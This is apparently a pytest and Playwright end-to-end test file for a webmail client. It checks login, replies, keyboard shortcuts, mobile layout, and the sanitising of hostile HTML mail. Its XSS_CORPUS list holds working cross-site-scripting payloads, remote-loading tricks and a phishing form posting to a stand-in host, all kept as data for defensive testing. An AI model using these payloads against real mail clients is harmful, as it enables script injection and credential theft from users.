"""The webmail in a real browser (Debian's Chromium) against the real Dovecot and Postfix.

The journey a user makes every day: log in, read a message, reply to it; the reply is delivered.
Every request to anywhere but the app is refused and recorded: a message's remote images and
scripts must never load. Screenshots land in tests/browser/artifacts/.
"""

from __future__ import annotations

import imaplib
import re
import threading
import time
from collections.abc import Iterator
from email.message import EmailMessage

import pytest
from playwright.sync_api import Page, expect
from werkzeug.serving import make_server

from controlplane import create_app
from controlplane.runners.scratch import ScratchStack
from tests.e2e.mailclient import DEFAULT_TIMEOUT, wait_for_subject
from tests.factories import PASSWORD, make_domain, make_mailbox, make_tenant

KB = 1024

pytestmark = [pytest.mark.browser, pytest.mark.e2e]


@pytest.fixture(scope="module")
def stack(mail_stack: ScratchStack) -> ScratchStack:
    """Two mailboxes in one domain: dora writes to eli, eli reads and replies."""
    with mail_stack.installation.transaction() as session:
        tenant = make_tenant(session, name="Browser Webmail", pool=5000 * KB)
        domain = make_domain(session, tenant=tenant, name="journey.test", max_mailbox_bytes=1000 * KB)
        for local_part in ("dora", "eli"):
            make_mailbox(session, domain=domain, local_part=local_part, quota=1000 * KB)
    return mail_stack


@pytest.fixture
def live_server(stack: ScratchStack) -> Iterator[str]:
    """The real app on the mail stack's installation, served on a free loopback port."""
    app = create_app({"LETTERHEAD_SETTINGS": stack.settings, "TESTING": True})
    server = make_server("127.0.0.1", 0, app, threaded=True)
    thread = threading.Thread(target=server.serve_forever, name="webmail-live-server", daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        thread.join(timeout=5)
        server.server_close()
        app.extensions["letterhead"].dispose()


def deliver(stack: ScratchStack, message: EmailMessage) -> None:
    import smtplib

    with smtplib.SMTP("127.0.0.1", stack.ports["smtp"], timeout=DEFAULT_TIMEOUT) as client:
        client.send_message(message)


def test_a_user_logs_in_reads_a_message_and_replies(page: Page, live_server: str, stack, artifacts) -> None:
    outside: list[str] = []

    def only_the_app(route) -> None:
        if route.request.url.startswith(live_server):
            route.continue_()
        else:
            outside.append(route.request.url)
            route.abort()

    page.route("**/*", only_the_app)

    invitation = EmailMessage()
    invitation["From"], invitation["To"] = "dora@journey.test", "eli@journey.test"
    invitation["Subject"] = "Picnic on Sunday"
    invitation["Message-ID"] = "<picnic-1@journey.test>"
    invitation.set_content("Shall we meet at the lake at noon?\nDora")
    invitation.add_alternative(
        '<p>Shall we meet at the <b>lake</b> at noon?</p><img src="https://tracker.example/p.png">'
        "<script>document.title='owned'</script><p>Dora</p>",
        subtype="html",
    )
    deliver(stack, invitation)
    assert wait_for_subject(stack, "eli@journey.test", PASSWORD, "Picnic on Sunday")

    page.goto("/")
    expect(page).to_have_url(re.compile(r"/login\?next=(/|%2F)$"))
    page.get_by_label("Email address").fill("eli@journey.test")
    page.get_by_label("Password").fill("not it")
    page.get_by_role("button", name="Log in").click()
    expect(page.get_by_role("alert")).to_have_text("Wrong email address or password.")
    page.get_by_label("Password").fill(PASSWORD)
    page.screenshot(path=artifacts / "webmail-login.png", full_page=True)
    page.get_by_role("button", name="Log in").click()

    expect(page.get_by_role("heading", name="Inbox", level=1)).to_be_visible()
    row = page.get_by_role("row").filter(has_text="Picnic on Sunday")
    expect(row).to_contain_text("dora@journey.test")
    expect(row).to_contain_text("unread")
    page.screenshot(path=artifacts / "webmail-inbox.png", full_page=True)

    row.get_by_role("link", name="Picnic on Sunday").click()
    expect(page.get_by_role("heading", name="Picnic on Sunday", level=1)).to_be_visible()
    # The HTML part, sanitised in its sandboxed frame: its script never ran, its tracker never loaded.
    frame = page.frame_locator("iframe.body.html")
    expect(frame.locator("b")).to_have_text("lake")
    expect(frame.locator("body")).to_contain_text("Shall we meet at the lake at noon?")
    expect(page.locator(".remote-blocked")).to_contain_text("1 remote image not shown")
    assert page.title() != "owned"
    page.screenshot(path=artifacts / "webmail-message.png", full_page=True)

    page.get_by_role("link", name="Reply", exact=True).click()
    expect(page.get_by_label("To", exact=True)).to_have_value("dora@journey.test")
    expect(page.get_by_label("Subject")).to_have_value("Re: Picnic on Sunday")
    body = page.get_by_label("Message")
    expect(body).to_contain_text("> Shall we meet at the lake at noon?")
    body.press("Control+Home")
    body.type("Noon is perfect, see you there.")
    page.screenshot(path=artifacts / "webmail-reply.png", full_page=True)
    page.get_by_role("button", name="Send").click()

    expect(page.get_by_role("status")).to_have_text("Message sent.")
    # Read and back in the inbox: the message is no longer marked unread.
    expect(page.get_by_role("row").filter(has_text="Picnic on Sunday")).not_to_contain_text("unread")
    assert wait_for_subject(stack, "dora@journey.test", PASSWORD, "Re: Picnic on Sunday")

    page.get_by_role("link", name="Sent").click()
    expect(page.get_by_role("row").filter(has_text="Re: Picnic on Sunday")).to_be_visible()
    page.get_by_role("button", name="Log out").click()
    expect(page.get_by_role("heading", name="Log in to your mail")).to_be_visible()
    assert outside == []


def test_the_keyboard_alone_writes_opens_and_answers_mail(
    page: Page, live_server: str, stack, artifacts
) -> None:
    for number in (1, 2):
        note = EmailMessage()
        note["From"], note["To"], note["Subject"] = "dora@journey.test", "eli@journey.test", f"Note {number}"
        note.set_content(f"Note number {number}.")
        deliver(stack, note)
    assert wait_for_subject(stack, "eli@journey.test", PASSWORD, "Note 2")
    page.goto("/login")
    page.get_by_label("Email address").fill("eli@journey.test")
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_label("Password").press("Enter")
    expect(page.get_by_role("heading", name="Inbox", level=1)).to_be_visible()

    page.keyboard.press("c")
    expect(page.get_by_role("heading", name="New message")).to_be_visible()
    page.keyboard.press("i")  # typed outside a field: back to the inbox
    expect(page.get_by_role("heading", name="Inbox", level=1)).to_be_visible()
    page.keyboard.press("j")
    expect(page.locator("table.messages tbody tr.focused")).to_contain_text("Note 2")
    page.keyboard.press("j")
    expect(page.locator("table.messages tbody tr.focused")).to_contain_text("Note 1")
    page.keyboard.press("x")
    expect(page.locator("table.messages tbody tr.focused input[type=checkbox]")).to_be_checked()
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", name="Note 1", level=1)).to_be_visible()
    page.keyboard.press("a")
    expect(page.get_by_label("Subject")).to_have_value("Re: Note 1")
    # In a field, letters are text, not shortcuts.
    page.get_by_label("Message").press("Control+Home")
    page.keyboard.type("cij")
    expect(page.get_by_label("Message")).to_have_value(re.compile(r"^cij"))
    expect(page.get_by_label("Subject")).to_have_value("Re: Note 1")
    page.keyboard.press("Escape")
    page.locator("body").click(position={"x": 5, "y": 5})
    page.keyboard.press("?")
    expect(page.locator("#shortcuts dl")).to_be_visible()


def test_the_webmail_fits_a_phone_screen(browser, live_server: str, stack, artifacts) -> None:
    context = browser.new_context(
        base_url=live_server, viewport={"width": 375, "height": 740}, is_mobile=True
    )
    phone = context.new_page()
    try:
        phone.goto("/login")
        phone.get_by_label("Email address").fill("eli@journey.test")
        phone.get_by_label("Password").fill(PASSWORD)
        phone.get_by_role("button", name="Log in").click()
        expect(phone.get_by_role("heading", name="Inbox", level=1)).to_be_visible()
        for path in ("/", "/compose", "/settings/account"):
            phone.goto(path)
            # Nothing wider than the screen: no sideways scrolling.
            assert phone.evaluate("document.documentElement.scrollWidth") <= 375, path
        phone.goto("/")
        phone.screenshot(path=artifacts / "webmail-phone-inbox.png", full_page=True)
        folders = phone.get_by_role("navigation", name="Folders").bounding_box()
        listing = phone.locator("main").bounding_box()
        assert folders is not None and listing is not None
        assert folders["y"] + folders["height"] <= listing["y"] + 1, "the folders are not above the mail"
    finally:
        context.close()


# What a hostile HTML mail tries, each a way to run script, reach out, or cover the page around
# the message. Every one that ran would set `owned` on the webmail's window (or change its title).
REMOTE = "https://remote.test"
XSS_CORPUS = [
    "<p>Hello, the visible text of this message.</p>",
    f'<img src="{REMOTE}/tracker.png" alt="tracker">',
    "<script>top.owned = 'script'; top.document.title = 'owned'</script>",
    "<img src=x onerror=\"top.owned = 'onerror'\">",
    "<body onload=\"top.owned = 'onload'\"><p>text</p>",
    "<a id=js href=\"javascript:top.owned = 'javascript-url'\">a javascript: link</a>",
    "<a href=\"data:text/html,<script>top.owned='data-url'</script>\">a data: link</a>",
    "<iframe src=\"data:text/html,<script>top.owned='iframe'</script>\"></iframe>",
    f'<object data="{REMOTE}/object.swf"></object><embed src="{REMOTE}/embed.swf">',
    "<svg onload=\"top.owned = 'svg-onload'\"><script>top.owned = 'svg-script'</script></svg>",
    f'<div style="background:url({REMOTE}/inline-style.png)">styled</div>',
    "<div style=\"width: expression(top.owned='css-expression')\">ie css</div>",
    f"<style>@import url({REMOTE}/import.css); body {{ background: url({REMOTE}/body.png) }}</style>",
    f'<link rel=stylesheet href="{REMOTE}/linked.css">',
    f'<meta http-equiv="refresh" content="0; url={REMOTE}/refresh">',
    f'<base href="{REMOTE}/"><img src="relative.png" alt="relative">',
    f'<form action="{REMOTE}/steal" method=post><input name=password value=secret><button>Log in again</button></form>',
    f'<video poster="{REMOTE}/poster.png"></video><audio src="{REMOTE}/sound.mp3" autoplay></audio>',
    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:red">overlay</div>',
    # Last: a parser trick that swallows what follows it into a style element.
    "<math><mtext><table><mglyph><style><img src=x onerror=\"top.owned='mutation'\">",
]


def test_a_corpus_of_hostile_html_runs_nothing_loads_nothing_and_covers_nothing(
    page: Page, live_server: str, stack, artifacts
) -> None:
    requests: list[tuple[str, str]] = []

    def record(route) -> None:
        request = route.request
        if request.url.startswith(live_server):
            route.continue_()
        else:
            requests.append((request.url, request.resource_type))
            route.abort()

    page.route("**/*", record)
    hostile = EmailMessage()
    hostile["From"], hostile["To"], hostile["Subject"] = (
        "dora@journey.test",
        "eli@journey.test",
        "Hostile corpus",
    )
    hostile.set_content("The plain part.")
    hostile.add_alternative("<html><body>" + "\n".join(XSS_CORPUS) + "</body></html>", subtype="html")
    # Straight into the inbox (the spam filter would rightly file it as junk on the way).
    imap = imaplib.IMAP4("127.0.0.1", stack.ports["imap"], timeout=DEFAULT_TIMEOUT)
    try:
        imap.login("eli@journey.test", PASSWORD)
        status, _ = imap.append("INBOX", "", imaplib.Time2Internaldate(time.time()), hostile.as_bytes())
        assert status == "OK"
    finally:
        imap.logout()

    page.goto("/login")
    page.get_by_label("Email address").fill("eli@journey.test")
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Log in").click()
    page.get_by_role("row").filter(has_text="Hostile corpus").get_by_role("link").click()
    frame = page.frame_locator("iframe.body.html")
    expect(frame.locator("body")).to_contain_text("Hello, the visible text of this message.")
    # The links a user might click run nothing either (kept as text, or opening elsewhere).
    for words in ("a javascript: link", "a data: link"):
        link = frame.get_by_text(words)
        if link.count():
            link.click(no_wait_after=True)
    page.wait_for_timeout(500)
    page.screenshot(path=artifacts / "webmail-hostile-html.png", full_page=True)
    assert page.evaluate("window.owned") is None
    assert page.title() != "owned"
    assert requests == [], "something left before the user allowed it"
    # The page around the message is whole: its own buttons are on top where they are drawn.
    reply = page.get_by_role("link", name="Reply", exact=True)
    box = reply.bounding_box()
    on_top = page.evaluate(
        "([x, y]) => document.elementFromPoint(x, y).textContent",
        [box["x"] + box["width"] / 2, box["y"] + box["height"] / 2],
    )
    assert on_top == "Reply"
    expect(page.get_by_role("heading", name="Hostile corpus", level=1)).to_be_visible()

    # Remote images asked for: images only, and still no script, no style sheet, no form post.
    page.get_by_role("link", name="Show them").click()
    expect(page.frame_locator("iframe.body.html").locator("body")).to_contain_text("Hello")
    page.wait_for_timeout(500)
    assert {kind for _url, kind in requests} <= {"image"}, requests
    assert any("tracker.png" in url for url, _kind in requests)
    assert page.evaluate("window.owned") is None
